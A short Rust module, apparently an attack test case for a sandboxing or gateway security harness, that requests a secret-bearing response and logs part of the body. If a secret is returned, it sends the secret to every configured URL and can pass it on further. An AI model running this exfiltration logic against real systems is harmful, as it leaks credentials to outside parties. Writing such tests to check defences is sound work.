//! Has a secret taken out of a response, looks for it in what is left, sends it elsewhere and does with it what is not allowed.

use guests::http::{Request, send};
use guests::misuse;

guests::attack!(execute);

fn execute(run: guests::Run) -> guests::Ending {
    let step = guests::started("taking");
    let place = guests::text(&run, "take").unwrap_or("/token").to_owned();
    let from = guests::text(&run, "from").unwrap_or_default();
    let request = Request { take_secret: Some(place), ..misuse::request("POST", from) };
    let response = match send(&request) {
        Ok(response) => response,
        Err(error) => {
            guests::tell!(&step, "error: {error:?}");
            return Ok(guests::Verdict::Succeeded);
        }
    };
    let body = String::from_utf8_lossy(&response.body);
    let start: String = body.chars().take(200).collect();
    guests::tell!(&step, "body: {} bytes: {start}", response.body.len());
    let Some(secret) = response.secret else {
        guests::tell!(&step, "no secret");
        return Ok(guests::Verdict::Succeeded);
    };
    guests::tell!(&step, "a secret");
    for (_, url) in guests::texts(&run).filter(|(key, _)| *key == "url") {
        misuse::send_and_tell(&step, url, &secret);
    }
    if guests::text(&run, "pass on").is_some() {
        misuse::pass_on(&step, &secret);
    }
    Ok(guests::Verdict::Succeeded)
}
